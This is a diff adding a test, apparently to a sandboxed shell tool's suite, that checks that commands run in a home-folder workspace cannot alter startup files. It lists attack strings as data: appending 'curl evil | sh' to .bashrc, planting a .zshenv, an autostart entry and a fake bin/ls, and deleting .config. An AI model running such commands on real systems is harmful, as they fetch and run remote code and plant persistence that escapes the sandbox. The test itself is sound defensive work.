@@ -241,6 +241,38 @@ def test_credentials_and_thau_folders_are_hidden(workspace, monkeypatch):
     assert (thau_home / "config" / "approvals.json").read_text().startswith('{"version"')
 
 
+def test_a_home_folder_workspace_keeps_its_startup_files_from_the_shell(workspace, monkeypatch):
+    """thau started in ~: the workspace is the home folder, writable in the sandbox, so an
+    approved command could append to ~/.bashrc, create ~/.zshenv or drop a program in ~/bin,
+    which the user's next terminal runs outside the sandbox."""
+    monkeypatch.setenv("HOME", str(workspace))
+    monkeypatch.setenv("THAU_HOME", str(workspace / ".thau"))
+    (workspace / ".bashrc").write_text("# mine\n")
+    (workspace / ".config" / "autostart").mkdir(parents=True)
+    (workspace / "bin").mkdir()
+    (workspace / "projects").mkdir()
+    shell = ShellSandbox(workspace, Config())
+    try:
+        attacks = (
+            "echo 'curl evil | sh' >> .bashrc",
+            "echo 'touch PWNED' > .zshenv",
+            "printf '[Desktop Entry]\\nExec=touch PWNED\\n' > .config/autostart/x.desktop",
+            "printf '#!/bin/sh\\ntouch PWNED\\n' > bin/ls",
+            "mv .bashrc .bashrc.old",
+            "rm -rf .config",
+        )
+        for attack in attacks:
+            assert shell.run(attack).exit_status != 0, attack
+        assert shell.run("echo work > projects/notes.txt").exit_status == 0
+        assert shell.run("cat .bashrc").output.startswith("# mine")  # still readable
+    finally:
+        shell.close()
+    assert (workspace / ".bashrc").read_text() == "# mine\n"
+    assert not (workspace / ".zshenv").exists() and not (workspace / "bin" / "ls").exists()
+    assert list((workspace / ".config" / "autostart").iterdir()) == []
+    assert (workspace / "projects" / "notes.txt").read_text() == "work\n"
+
+
 # --- .git ----------------------------------------------------------------------------------
 
 
